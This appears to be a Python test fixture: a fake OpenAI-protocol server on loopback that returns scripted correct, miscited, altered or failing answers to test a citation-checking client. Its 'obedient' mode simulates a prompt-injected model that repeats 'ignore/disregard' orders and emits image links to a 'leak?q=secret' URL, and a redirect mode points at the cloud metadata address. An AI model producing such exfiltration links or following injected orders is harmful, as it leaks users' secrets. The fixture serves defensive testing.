"""A small HTTP server that speaks the OpenAI protocol on loopback, streaming included, and misbehaves on request.

The name of the model chooses what it does: an answer of ``ANSWERS``, a failure of ``FAILURES``, or ``say:TEXT``. It
reads the prompt as a model does: passages are those that the prompt numbers. Ignorant of Byline's code.
"""

import contextlib
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import zip_longest
from typing import Any

_PASSAGE = re.compile(r"==\w+== passage (\d+)\n(.*?)\n==\w+== end of \1", re.DOTALL)
PERSON = "Zebulon Quark"


def passages(prompt: str) -> dict[int, str]:
    """The numbered passages of a prompt, each without its lines of outlet, date and title."""
    found = {int(number): text for number, text in _PASSAGE.findall(prompt)}
    return {n: re.sub(r"\A(?:(?:outlet|date|title): .*\n)*", "", text) for n, text in found.items()}


def first_sentence(text: str) -> str:
    """The first run of a passage that ends like a sentence and has a few words."""
    for line in text.splitlines():
        for piece in re.findall(r"[^.!?]+[.!?](?=\s|$)", line):
            if len(piece.split()) >= 6 and piece.count("“") == piece.count("”") and piece.count('"') % 2 == 0:
                return piece.strip()
    return text.split("\n", maxsplit=1)[0][:200]


def _right(prompt: str) -> str:
    return " ".join(f"{first_sentence(text)} [{number}]" for number, text in list(passages(prompt).items())[:3])


def _wrongly_cited(prompt: str) -> str:
    found = list(passages(prompt).items())
    return " ".join(f"{first_sentence(text)} [{found[i - 1][0]}]" for i, (_, text) in enumerate(found[:2]))


def _changed(prompt: str, change: Callable[[str], str]) -> str:
    """The first passage's first sentence that the change changes, and a right one after it."""
    for number, text in passages(prompt).items():
        for piece in re.findall(r"[^.!?\n]+[.!?](?=\s|$)", text):
            if (changed := change(piece)) != piece:
                return f"{changed.strip()} [{number}] {_right(prompt)}"
    return _right(prompt)


def _number(text: str) -> str:
    return re.sub(r"(?<![\w.,])\d{2,3}(?![\w.,]\d)", lambda found: str(int(found.group()) + 14), text, count=1)


def _name(text: str) -> str:
    return re.sub(r"(?<=\w )[A-Z]\w+ [A-Z]\w+", PERSON, text, count=1)


def _quotation(prompt: str) -> str:
    return f"An official said “we will never talk about any of this again”. [1] {_right(prompt)}"


def _obedient(prompt: str) -> str:
    """Does what any passage asks for, and cites what it was told to."""
    orders = re.findall(
        r"(?im)^.*\b(?:ignore|disregard|system:|assistant:|you must|write).*$", prompt.partition("passage 1\n")[2]
    )
    return " ".join(
        [*orders[:3], "![x](http://127.0.0.1:9/leak?q=secret) <img src=http://127.0.0.1:9/x> [99][1]", "I obey."]
    )


def _escaping(prompt: str) -> str:
    """Repeats what the last question asks it to repeat, between right sentences, so that the prose stands."""
    if "Last question: " in prompt:
        return prompt.rpartition("Last question: ")[2]
    wanted = prompt.rpartition("Repeat: ")[2].partition("\n")[0].split(" ¦ ")
    right = [f"{first_sentence(text)} [{number}]" for number, text in passages(prompt).items()][: len(wanted) + 1]
    return " ".join(piece for pair in zip_longest(right, wanted, fillvalue="") for piece in pair)


ANSWERS: dict[str, Callable[[str], str]] = {
    "right": _right,
    "uncited": lambda prompt: re.sub(r" \[\d+\]", "", _right(prompt)),
    "wrongly-cited": _wrongly_cited,
    "foreign": lambda prompt: re.sub(r"\[\d+\]", "[77]", _right(prompt)),
    "number": lambda prompt: _changed(prompt, _number),
    "name": lambda prompt: _changed(prompt, _name),
    "quotation": _quotation,
    "obedient": _obedient,
    "escaping": _escaping,
    "none": lambda prompt: "The articles do not say.",  # noqa: ARG005 - the signature of all answers
    "echo": lambda prompt: prompt.rpartition("Last question: ")[2] if "Last question: " in prompt else _right(prompt),
}

FAILURES = (
    "401", "403", "404", "429", "500", "hang-before", "hang-headers", "hang-mid", "drip", "cut", "invalid-json",
    "invalid-utf8", "huge", "huge-line", "empty", "html", "redirect", "format-ignored", "not-streamed", "null-choices",
)  # fmt: skip


class Handler(BaseHTTPRequestHandler):
    """One request: reads the model's name and the prompt, and does what the name says."""

    protocol_version = "HTTP/1.1"
    server: "OpenAiServer"

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base's name
        """Say nothing."""

    def do_GET(self) -> None:
        """Count what should never come: somebody followed a link."""
        self.server.fetched.append(self.path)
        self.send_error(404)

    def do_POST(self) -> None:
        """Answer as the model's name says."""
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.requests.append({"path": self.path, "body": body, "key": self.headers.get("Authorization", "")})
        model = body["model"]
        self.asked_to_stream = bool(body.get("stream"))
        prompt = "\n".join(str(message["content"]) for message in body["messages"])
        self.close_connection = True
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            if model.startswith("say:"):
                self._stream(model[4:])
            elif model in ANSWERS:
                self._stream(ANSWERS[model](prompt))
            else:
                self._fail(model, prompt)

    def _head(self, status: int = 200, kind: str = "text/event-stream", **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Connection", "close")
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()

    def _event(self, text: str | None, **more: Any) -> None:
        choice = {"index": 0, "delta": {} if text is None else {"role": "assistant", "content": text}}
        choice["finish_reason"] = "stop" if text is None else None
        event = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice], **more}
        self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
        self.wfile.flush()

    def _whole(self, text: str) -> None:
        message = {"role": "assistant", "content": text}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        self._head(kind="application/json")
        whole = {"id": "x", "object": "chat.completion", "created": 1, "model": "m", "choices": [choice]}
        self.wfile.write(json.dumps(whole).encode())

    def _stream(self, text: str) -> None:
        if not self.asked_to_stream:
            self._whole(text)
            return
        self._head()
        for piece in re.findall(r".{1,4}", text, re.DOTALL):
            self._event(piece)
            if self.server.pause:
                time.sleep(self.server.pause)
        self._event(None)
        usage = {"prompt_tokens": 100, "completion_tokens": len(text) // 4, "total_tokens": 100 + len(text) // 4}
        self._event_of_usage(usage)
        self.wfile.write(b"data: [DONE]\n\n")

    def _event_of_usage(self, usage: dict[str, int]) -> None:
        event = {
            "id": "x",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": "m",
            "choices": [],
            "usage": usage,
        }
        self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())

    def _wait(self) -> None:
        """Until the server ends, or the client goes."""
        self.server.ended.wait(120)

    def _fail(self, model: str, prompt: str) -> None:  # noqa: C901, PLR0912 - one branch a way to fail
        if model.isdecimal():
            secret = self.headers.get("Authorization", "")
            error = {"error": {"message": f"Incorrect API key provided: {secret}", "type": "x", "code": "x"}}
            self._head(int(model), "application/json", **({"Retry_After": "7"} if model == "429" else {}))
            self.wfile.write(json.dumps(error).encode())
        elif model == "hang-before":
            self._wait()
        elif model == "hang-headers":
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n")
            self.wfile.flush()
            self._wait()
        elif model in ("hang-mid", "cut", "drip"):
            self._head(**({"Content_Length": "999999"} if model == "cut" else {}))
            for piece in re.findall(r".{1,4}", _right(prompt), re.DOTALL)[:40]:
                self._event(piece)
            if model == "hang-mid":
                self._wait()
            while model == "drip" and not self.server.ended.wait(self.server.drip):
                self.wfile.write(b":")
                self.wfile.flush()
        elif model == "invalid-json":
            self._head()
            self.wfile.write(b'data: {"choices": [{"delta": {"content": "Hel\n\ndata: not json\n\n')
        elif model == "invalid-utf8":
            self._head()
            self.wfile.write(b'data: {"id":"x","choices":[{"index":0,"delta":{"content":"\xff\xfe\xc3("}}]}\n\n')
        elif model in ("huge", "huge-line"):
            self._head()
            event = json.dumps({"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                                "choices": [{"index": 0, "delta": {"content": "word " * 2000}}]})  # fmt: skip
            chunk = f"data: {event}\n\n".encode() if model == "huge" else b"a" * 10_000
            for _ in range(50_000_000 // len(chunk)):
                self.wfile.write(chunk)
        elif model == "empty":
            self._head()
            self.wfile.write(b"data: [DONE]\n\n")
        elif model == "html":
            self._head(kind="text/html")
            self.wfile.write(
                b"<!doctype html><title>Sign in</title><img src=http://127.0.0.1:9/x><p>Sign in first.</p>"
            )
        elif model == "redirect":
            self._head(307, Location=self.server.redirect_to)
        elif model == "format-ignored":
            self._stream('{"answer": "Paris", "score": 0.9} ## Result\n\n```json\n[]\n```')
        elif model == "not-streamed":
            self._whole("Whole. [1]")
        elif model == "null-choices":
            self._head()
            self.wfile.write(b'data: {"id":"x","choices":null}\n\ndata: {"id":"x","choices":[{"delta":null}]}\n\n')
        else:
            self._head(404, "application/json")
            self.wfile.write(b'{"error": {"message": "no such model"}}')


class OpenAiServer(ThreadingHTTPServer):
    """The server. ``requests`` are those it got, ``fetched`` the paths that somebody fetched by GET.

    ``pause`` is the seconds between tokens, ``drip`` those between the bytes of "drip".
    """

    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests: list[dict[str, Any]] = []
        self.fetched: list[str] = []
        self.ended = threading.Event()
        self.pause = 0.0
        self.drip = 10.0
        self.redirect_to = "http://169.254.169.254/latest/meta-data/"

    @property
    def url(self) -> str:
        """The base URL that a client is given."""
        return f"http://127.0.0.1:{self.server_address[1]}/v1"


@contextlib.contextmanager
def serving() -> Iterator[OpenAiServer]:
    """Run the server for the length of the block."""
    server = OpenAiServer()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.ended.set()
        server.shutdown()
        server.server_close()
        thread.join()
